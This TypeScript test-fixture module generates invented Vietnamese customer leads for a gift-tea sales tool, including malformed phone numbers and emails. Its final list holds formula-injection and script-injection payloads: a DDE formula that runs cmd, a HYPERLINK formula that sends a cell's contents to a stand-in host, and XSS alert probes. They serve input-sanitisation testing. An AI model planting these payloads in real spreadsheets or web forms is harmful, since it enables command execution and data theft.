/** Words that invented people and their wishes are made of. Nobody here exists. */
export const familyNames =
  'Nguyễn Nguyễn Nguyễn Nguyễn Trần Trần Lê Lê Phạm Phạm Hoàng Huỳnh Phan Vũ Võ Đặng Bùi Đỗ Hồ Ngô Dương Lý Đinh Đào Trương'.split(
    ' '
  )

export const middleNames = {
  woman: ['Thị', 'Thị', 'Thị Ngọc', 'Ngọc', 'Thu', 'Phương', 'Thanh', 'Bích', 'Thị Mỹ'],
  man: ['Văn', 'Văn', 'Đức', 'Quốc', 'Minh', 'Hữu', 'Công', 'Xuân', 'Đình']
} as const

export const givenNames = {
  woman: 'Lan Hương Đào Thủy Hạnh Nga Quỳnh Trang Yến Diệp Thảo Vy Ngân Loan Hiền Ánh Mai Liên Huyền Đoan'.split(' '),
  man: 'An Bình Dũng Đạt Hải Hùng Khánh Kiên Lâm Long Nam Phúc Quân Sơn Tài Thành Tiến Trung Tuấn Vinh'.split(' ')
} as const

export const companyNames = [
  'Công ty TNHH Mây Trắng Phương Nam',
  'Công ty CP Đồi Chè Xanh',
  'Doanh nghiệp tư nhân Bến Sông Thu',
  'Công ty TNHH Gốm Lửa Hồng',
  'Hợp tác xã Nắng Sớm',
  'Công ty CP Vận Tải Cánh Diều',
  'Văn phòng luật Cây Sồi',
  'Khách sạn Trăng Khuyết',
  'Trường mầm non Chim Non',
  'Công ty TNHH "Sen & Súng"',
  'CONG TY TNHH XAY DUNG BAC CAU'
]

/** Wishes by how serious they are. Only the hot ones hold words of urgency; only the cold ones say it is a look around. */
export const wishes = {
  hot: [
    'Bên mình cần gấp 300 hộp quà trà sen cho hội nghị khách hàng, gọi lại giúp nhé',
    'Xin báo giá hộp quà Tết cho 500 nhân viên, in logo công ty',
    'Muốn đặt hàng 200 set trà và bánh, giao trong tháng này',
    'Cần ký hợp đồng quà tặng cả năm, bên mình mua đều mỗi quý',
    'Tuần này phải chốt quà cho đối tác, tư vấn giúp hôm nay được không'
  ],
  warm: [
    'Cần khoảng 50 hộp quà cho nhân viên nhân dịp kỷ niệm thành lập',
    'Công ty mình muốn tặng quà khách hàng thân thiết, khoảng 80 phần',
    'Quan tâm hộp trà ướp sen loại hai ngăn, có in thiệp không',
    'Mình cần quà cưới cho 120 khách, ưu tiên gói nhỏ gọn',
    'Trà cho phòng họp, dùng hằng tháng'
  ],
  cold: [
    'Chỉ tham khảo giá thôi ạ',
    'Em đang tìm hiểu cho bài tập ở trường',
    'Chưa có kế hoạch, gửi trước danh mục giúp mình',
    'Tham khảo mẫu hộp năm sau'
  ]
} as const

export const sources = [
  'facebook',
  'facebook',
  'zalo',
  'website',
  'website',
  'event',
  'referral',
  'Facebook ',
  'ZALO',
  ''
]

export const nonsensePhones = [
  'không có',
  '12345',
  '0912 345',
  '0000000000',
  'sẽ gửi sau',
  'n/a',
  '1900 1234',
  '09xx xxx xxx'
]
export const nonsenseMails = [
  'khongco',
  'abc@',
  '@example.com',
  'ten@@example.com',
  'hoa example.com',
  'a@b',
  'không có email',
  'x..y@example.com'
]

/** Things that spreadsheets and browsers would run if anybody let them. */
export const formulas = ['=', '+', '-', '@', '=+', '@=']
export const harmfulCells = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://lua.example/?d="&A1,"Bấm vào đây")',
  '@SUM(1+1)*2',
  '+1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>'
]

export const emoji = ['🌸', '🎁', '🙏', '❤️', '👨‍👩‍👧']

export const mailDomains = ['example.com', 'example.com', 'example.org', 'example.net', 'congty.example', 'thu.example']
